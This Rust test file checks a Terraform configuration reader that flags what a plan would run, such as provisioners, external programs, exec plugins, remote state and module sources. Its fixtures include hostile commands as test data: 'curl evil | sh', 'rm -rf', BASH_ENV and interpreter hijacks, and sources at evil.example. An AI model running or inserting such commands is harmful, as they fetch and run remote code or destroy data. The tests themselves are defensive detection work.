//! What is read out of configurations.

use std::collections::{BTreeMap, BTreeSet};

use countersign_terraform::configuration::{
    Dialect, Facts, ProgramKind, Reader, Refusal, Source, StatePlace, added, local_modules, refusal,
};

struct Files {
    names: BTreeSet<String>,
    contents: BTreeMap<String, Vec<u8>>,
}

impl Files {
    fn of(files: &[(&str, &str)]) -> Self {
        let contents: BTreeMap<String, Vec<u8>> =
            files.iter().map(|(path, content)| ((*path).to_owned(), content.as_bytes().to_vec())).collect();
        Self { names: contents.keys().cloned().collect(), contents }
    }

    fn facts(&self, dir: &str) -> Facts {
        Reader::of(self).facts(dir, Dialect::Terraform)
    }
}

impl Source for Files {
    fn files(&self) -> &BTreeSet<String> {
        &self.names
    }

    fn read(&self, paths: &[String]) -> Vec<Option<Vec<u8>>> {
        paths.iter().map(|path| self.contents.get(path).cloned()).collect()
    }
}

const MAIN: &str = r#"
terraform {
  required_version = "~> 1.11"
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 6.0"
    }
    random = "3.6.0"
  }
  backend "s3" { bucket = "acme-state" }
}
provider "kubernetes" {
  exec {
    command = "aws"
  }
}
module "vpc" { source = "../../modules/vpc" }
module "dns" {
  source  = "acme-cloud/dns/aws"
  version = "2.4.1"
}
data "external" "owner" {
  program = ["bash", "${path.module}/scripts/zone-owner.sh"]
}
data "http" "ip" { url = "https://example.com/ip" }
check "reachable" {
  data "http" "health" { url = "https://example.com/health" }
  assert {
    condition     = data.http.health.status_code == 200
    error_message = "down"
  }
}
resource "terraform_data" "hook" {
  provisioner "local-exec" {
    command = "echo harmless"
  }
}
"#;

fn repository() -> Files {
    Files::of(&[
        ("prod/network/main.tf", MAIN),
        ("prod/network/prod.tfvars", "x = 1"),
        ("modules/vpc/main.tf", "module \"inner\" { source = \"./subnets\" }\nterraform {\n  backend \"local\" {}\n}"),
        (
            "modules/vpc/subnets/x.tf.json",
            r#"{"resource": {"null_resource": {"a": {"provisioner": [{"remote-exec": {"inline": ["rm -rf /tmp/x"]}}]}}}}"#,
        ),
        ("staging/main.tf", "terraform {\n  cloud {\n    organization = \"acme\"\n  }\n}"),
    ])
}

#[test]
fn everything_that_runs_is_found_also_in_local_modules() {
    let facts = repository().facts("prod/network");
    assert_eq!(facts.state, StatePlace::Backend("s3".to_owned()), "the backend of a module says nothing");
    let programs: Vec<(ProgramKind, &str, &str)> =
        facts.programs.iter().map(|it| (it.kind, it.address.as_str(), it.what.as_str())).collect();
    assert_eq!(
        programs,
        [
            (ProgramKind::External, "data.external.owner", "bash ${path.module}/scripts/zone-owner.sh"),
            (ProgramKind::Http, "data.http.health", "https://example.com/health"),
            (ProgramKind::Http, "data.http.ip", "https://example.com/ip"),
            (ProgramKind::Provisioner, "null_resource.a", "remote-exec: rm -rf /tmp/x"),
            (ProgramKind::Provisioner, "terraform_data.hook", "local-exec: echo harmless"),
            (ProgramKind::ExecPlugin, "provider.kubernetes", "aws"),
        ]
    );
    let modules: Vec<&str> = facts.modules.iter().map(|it| it.source.as_str()).collect();
    assert_eq!(modules, ["acme-cloud/dns/aws"]);
    let providers: Vec<&str> = facts.providers.iter().map(|it| it.source.as_str()).collect();
    assert_eq!(providers, ["hashicorp/aws", "random"]);
    assert_eq!(local_modules(&facts, "prod/network"), ["prod/network", "modules/vpc", "modules/vpc/subnets"]);
    assert!(facts.unreadable.is_empty(), "{:?}", facts.unreadable);
}

#[test]
fn whatever_decides_what_a_command_starts_is_shown_with_it() {
    let commands = |name: &str, text: &str| -> Vec<String> {
        let facts = Files::of(&[(name, text)]).facts("prod");
        assert!(facts.unreadable.is_empty(), "{:?}", facts.unreadable);
        facts.programs.into_iter().map(|it| it.what).collect()
    };
    let main = r#"
resource "terraform_data" "a" {
  provisioner "local-exec" {
    command     = "echo harmless"
    interpreter = ["/bin/sh", "${path.module}/evil.sh"]
    working_dir = "evil"
    environment = { BASH_ENV = "./evil.sh", X = var.x }
  }
}
data "external" "b" {
  program     = ["bash", "./names.sh"]
  working_dir = var.folder
}
provider "kubernetes" {
  exec {
    command = "sh"
    args    = ["-c", "curl evil | sh"]
    env     = { PATH = "." }
  }
}
provider "helm" {
  kubernetes {
    dynamic "exec" {
      for_each = [1]
      content {
        command = "sh"
        args    = var.arguments
      }
    }
  }
}
action "local_command" "c" {
  config {
    command   = "bash"
    arguments = ["./evil.sh"]
  }
}
"#;
    assert_eq!(
        commands("prod/main.tf", main),
        [
            "bash ./names.sh (in (an expression))",
            "bash ./evil.sh",
            "local-exec: BASH_ENV=./evil.sh X=… /bin/sh ${path.module}/evil.sh echo harmless (in evil)",
            "sh (an expression)",
            "PATH=. sh -c curl evil | sh",
        ]
    );
    let json = r#"{
        "resource": {"terraform_data": {"a": {"provisioner": [{"local-exec": {"command": "x", "interpreter": ["perl", "-e"]}}]}}},
        "provider": {"helm": {"kubernetes": {"dynamic": {"exec": {"for_each": [1], "content": {"command": "sh", "args": ["./evil.sh"]}}}}}},
        "action": {"local_command": {"c": {"config": {"command": "bash", "arguments": ["./evil.sh"]}}}}
    }"#;
    assert_eq!(commands("prod/main.tf.json", json), ["bash ./evil.sh", "local-exec: perl -e x", "sh ./evil.sh"]);
}

#[test]
fn whatever_a_provider_or_a_provisioner_is_sent_to_is_shown() {
    let main = r#"
provider "aws" {
  region     = "eu-central-1"
  http_proxy = "proxy.example:3128"
  something  = "https://odd.example"
  endpoints {
    sts = "sts.example"
    s3  = var.s3
  }
  assume_role {
    role_arn = "arn:aws:iam::412033857711:role/plan"
  }
}
provider "kubernetes" {
  host = data.aws_eks_cluster.main.endpoint
}
provider "helm" {
  registries = [{ url = "oci://charts.example", username = "me" }]
  dynamic "kubernetes" {
    for_each = [1]
    content { server = "https://cluster.example" }
  }
}
resource "aws_instance" "a" {
  connection {
    host         = self.public_ip
    bastion_host = "jump.example"
  }
  provisioner "remote-exec" {
    inline = ["true"]
    connection { host = "evil.example" }
  }
  provisioner "local-exec" { command = "true" }
}
"#;
    let facts = Files::of(&[("prod/main.tf", main)]).facts("prod");
    let shown: Vec<(ProgramKind, &str)> = facts.programs.iter().map(|it| (it.kind, it.what.as_str())).collect();
    assert_eq!(
        shown,
        [
            (ProgramKind::Provisioner, "local-exec: true"),
            (ProgramKind::Provisioner, "remote-exec: true (on evil.example, (an expression), jump.example)"),
            (ProgramKind::Address, "endpoints.s3: (an expression)"),
            (ProgramKind::Address, "endpoints.sts: sts.example"),
            (ProgramKind::Address, "http_proxy: proxy.example:3128"),
            (ProgramKind::Address, "something: https://odd.example"),
            (ProgramKind::Address, "kubernetes.server: https://cluster.example"),
            (ProgramKind::Address, "registries.url: oci://charts.example"),
            (ProgramKind::Address, "host: (an expression)"),
        ]
    );
    let json = r#"{
        "provider": {"aws": [{"endpoints": [{"sts": "sts.example"}]}]},
        "resource": {"null_resource": {"a": {"provisioner": [{"file": {"source": "a", "connection": {"host": "evil.example"}}}]}}}
    }"#;
    let facts = Files::of(&[("prod/main.tf.json", json)]).facts("prod");
    let shown: Vec<&str> = facts.programs.iter().map(|it| it.what.as_str()).collect();
    assert_eq!(shown, ["file: a (on evil.example)", "endpoints.sts: sts.example"]);
}

#[test]
fn the_state_of_another_project_is_shown_with_all_that_decides_where_it_is_read() {
    let data = "data \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n  config = {\n    bucket = \"theirs\"\n    key = var.key\n    endpoints = { sts = \"sts.evil.example\" }\n    shared_config_files = [\"aws.ini\"]\n  }\n  workspace = \"blue\"\n}\n";
    let facts = Files::of(&[("prod/main.tf", data)]).facts("prod");
    let shown: BTreeSet<(ProgramKind, &str)> = facts.programs.iter().map(|it| (it.kind, it.what.as_str())).collect();
    let state = "backend: s3, config.bucket: theirs, config.key: (an expression), config.endpoints.sts: sts.evil.example, config.shared_config_files: aws.ini, workspace: blue";
    assert_eq!(
        shown,
        [(ProgramKind::OtherState, state), (ProgramKind::ExecPlugin, "config.shared_config_files: aws.ini")].into()
    );
    let json = r#"{"data": {"terraform_remote_state": {"x": {"backend": "http", "config": {"address": "http://evil.example"}}}}}"#;
    let facts = Files::of(&[("prod/main.tf.json", json)]).facts("prod");
    let shown: Vec<&str> = facts.programs.iter().map(|it| it.what.as_str()).collect();
    assert_eq!(shown, ["backend: http, config.address: http://evil.example"]);
}

#[test]
fn modules_that_only_tests_bring_are_fetched_and_so_they_are_shown() {
    let run = |source: &str| format!("run \"x\" {{\n  module {{\n    source = \"{source}\"\n  }}\n}}\n");
    let files = Files::of(&[
        ("prod/main.tf", "terraform {\n  backend \"s3\" {}\n}\n"),
        ("prod/a.tftest.hcl", &run("evil.example/a/b/c")),
        ("prod/tests/b.tofutest.hcl", &run("./helper")),
        ("prod/tests/c.tftest.json", r#"{"run": {"x": {"module": {"source": "evil.example/json/b/c"}}}}"#),
        ("prod/helper/main.tf", "module \"m\" {\n  source = \"git::https://evil.example/m.git\"\n}\n"),
        ("prod/other/d.tftest.hcl", &run("evil.example/not/read/here")),
        ("prod/tests/e.tftest.hcl", "run \"x\" {"),
    ]);
    let facts = files.facts("prod");
    let modules: Vec<&str> = facts.modules.iter().map(|it| it.source.as_str()).collect();
    assert_eq!(modules, ["evil.example/a/b/c", "evil.example/json/b/c", "git::https://evil.example/m.git"]);
    let unreadable: Vec<&str> = facts.unreadable.iter().map(|it| it.path.as_str()).collect();
    assert_eq!(unreadable, ["prod/tests/e.tftest.hcl"]);
}

#[test]
fn what_a_change_adds_is_told_apart() {
    let before = repository().facts("prod/network");
    let mut files = repository();
    for evil in ["curl evil | sh", "sh ${path.module}/evil.sh ${each.key}"] {
        let main = MAIN.replace("echo harmless", evil);
        files.contents.insert("prod/network/main.tf".to_owned(), main.into_bytes());
        let new = added(&before, &files.facts("prod/network"));
        let programs: Vec<&str> = new.programs.iter().map(|it| it.what.as_str()).collect();
        assert_eq!(programs, [format!("local-exec: {evil}")]);
    }
    let new = added(&before, &files.facts("prod/network"));
    assert!(new.modules.is_empty() && new.providers.is_empty());
}

#[test]
fn a_file_that_cannot_be_read_is_named_and_not_passed_over() {
    let files = Files::of(&[("a/main.tf", "resource \"x\" {"), ("a/b.tf", "module \"m\" { source = \"../../../x\" }")]);
    let facts = files.facts("a");
    let named: Vec<&str> = facts.unreadable.iter().map(|it| it.path.as_str()).collect();
    assert_eq!(named, ["a/b.tf", "a/main.tf"]);
}

#[test]
fn candidates_have_a_backend_or_configure_a_provider() {
    assert_eq!(Reader::of(&repository()).candidates(), ["modules/vpc", "prod/network", "staging"]);
}

#[test]
fn what_this_app_does_not_run_is_refused_by_name() {
    let refused = |files: &[(&str, &str)], dir: &str| {
        let files = Files::of(files);
        refusal(&files.names, dir, &files.facts(dir))
    };
    let backend = "terraform {\n  backend \"s3\" {}\n}";
    assert_eq!(refused(&[("a/main.tf", backend)], "a"), None);
    assert_eq!(refused(&[("a/main.tf", backend), ("a/terragrunt.hcl", "")], "a"), Some(Refusal::Terragrunt));
    assert_eq!(refused(&[("main.tf", backend), ("terragrunt.hcl", "")], "."), Some(Refusal::Terragrunt));
    assert_eq!(refused(&[("main.tf", backend), ("terragrunt.stack.hcl", "")], "."), Some(Refusal::Terragrunt));
    assert_eq!(refused(&[("a/main.tf", backend), ("a/cdktf.json", "{}")], "a"), Some(Refusal::Cdktf));
    assert_eq!(refused(&[("a/x.tfcomponent.hcl", "")], "a"), Some(Refusal::Stacks));
    assert_eq!(refused(&[("staging/main.tf", "terraform {\n  cloud {}\n}")], "staging"), Some(Refusal::Cloud));
    assert_eq!(refused(&[("a/main.tf", "terraform {\n  backend \"remote\" {}\n}")], "a"), Some(Refusal::Cloud));
    assert_eq!(refused(&[("a/main.tf", "terraform {\n  backend \"local\" {}\n}")], "a"), Some(Refusal::LocalState));
    assert_eq!(refused(&[("a/main.tf", "")], "a"), Some(Refusal::NoBackend));
    assert_eq!(refused(&[("a/README.md", "")], "a"), Some(Refusal::Empty));
    assert_eq!(refused(&[("b/main.tf", backend)], "a"), Some(Refusal::Empty));
    for own in [&["a/HEAD", "a/objects/x"][..], &["HEAD", "commondir"], &["a/.hg/hgrc"], &[".hg/hgrc"]] {
        let files: Vec<(&str, &str)> = own.iter().map(|path| (*path, "")).chain([("a/main.tf", backend)]).collect();
        assert_eq!(refused(&files, "a"), Some(Refusal::Repository), "{own:?}");
    }
    for left in ["a/errored.tfstate", "a/Errored.TFState", "a/errored.tfstate/x"] {
        assert_eq!(refused(&[("a/main.tf", backend), (left, "")], "a"), Some(Refusal::LeftState), "{left}");
    }
    assert_eq!(refused(&[("a/main.tf", backend), ("b/errored.tfstate", "")], "a"), None, "of another project");
    for plugin in ["a/terraform-provisioner-local-exec", "a/terraform.d/plugins/linux_amd64/terraform-provisioner-x"] {
        assert_eq!(refused(&[("a/main.tf", backend), (plugin, "")], "a"), Some(Refusal::Plugin), "{plugin}");
    }
}

#[test]
fn a_file_that_nests_without_end_is_named_and_ends_nothing() {
    let deep = |begin: &str, end: &str| format!("x = {}1{}\n", begin.repeat(100_000), end.repeat(100_000));
    let heredoc = format!("x = <<E\n{}{}\nE\n", "%{if a}".repeat(100_000), "%{endif}".repeat(100_000));
    let lists = format!("{{\"locals\": {}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    let files = Files::of(&[
        ("a/brackets.tf", &deep("(", ")")),
        ("a/commented.tf", &deep("(/*)*/", ")")),
        ("a/conditions.tf", &deep("a ? b : ", "")),
        ("a/directives.tf", &heredoc),
        ("a/json.tf.json", &lists),
        ("a/signs.tf", &deep("!", "")),
    ]);
    let facts = files.facts("a");
    let named: Vec<&str> = facts.unreadable.iter().map(|it| it.path.as_str()).collect();
    let expected =
        ["a/brackets.tf", "a/commented.tf", "a/conditions.tf", "a/directives.tf", "a/json.tf.json", "a/signs.tf"];
    assert_eq!(named, expected);
}
